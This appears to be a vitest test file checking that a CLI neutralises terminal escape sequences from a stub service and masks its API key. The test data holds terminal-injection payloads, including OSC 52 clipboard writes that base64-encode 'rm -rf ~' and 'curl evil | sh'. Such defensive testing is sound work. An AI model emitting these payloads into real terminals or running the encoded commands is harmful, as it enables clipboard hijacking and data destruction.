// The built CLI on a real pseudo-terminal, against a stub service that answers with escape sequences and echoes the
// key (issue 27, points 5 and 6): the terminal receives them shown, never raw, and never the key; piped, the same
// command prints the service's bytes exactly, the key masked.
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/context.js';
import { cleanEnv, runBin, runInTerminal } from '../helpers/spawn.js';

const key = 'sk_live_4f1c9e2a7b6d5e8f0a1b';
const label = `Seats\x1b]0;pwned\x07\x1b[2J\x1b[8m\x1b]52;c;cm0gLXJmIH4K\x07\x9b2J\x7f ${key}`;
const shown = 'Seats\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[8m\\u001b]52;c;cm0gLXJmIH4K\\u0007\\u009b2J\\u007f ***';
// eslint-disable-next-line no-control-regex -- control characters are what is looked for
const raw = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let server: Server;
let env: Record<string, string>;
beforeAll(async () => {
  server = createServer((req, res) => {
    const fields = req.method === 'GET' && req.url?.startsWith('/v1/fields');
    res.writeHead(fields ? 200 : 422, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify(
        fields
          ? { payload: [{ id: 'cSeats001', label, fieldType: 'text' }] }
          : { message: `refused\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 for ${key}` },
      ),
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  env = cleanEnv({
    OUTREACH_CONFIG_DIR: tempDir(),
    NO_COLOR: '1',
    OUTREACH_BASE_URL: `http://127.0.0.1:${port}`,
    OUTREACH_API_KEY: key,
  });
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

describe('the built CLI on a terminal', () => {
  it('shows control characters from the service on stdout and stderr, and masks the key', async () => {
    const table = await runInTerminal(['fields', 'list', '--wide'], { env, columns: 200 });
    expect(table.code).toBe(0);
    expect(table.output).toContain(`cSeats001  ${shown}  text\n`);
    expect(table.output).not.toMatch(raw);
    expect(table.output).not.toContain(key);
    const error = await runInTerminal(['fields', 'update', 'cSeats001', '--label', 'x'], { env, columns: 200 });
    expect(error.output).toContain('error: refused\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 for ***');
    expect(error.output).not.toMatch(raw);
  });

  it('piped: the service bytes exactly, but the key', async () => {
    const piped = await runBin(['fields', 'list'], { env });
    expect(piped.stdout).toBe(`cSeats001\t${label.replace(key, '***')}\ttext\n`);
  });
});
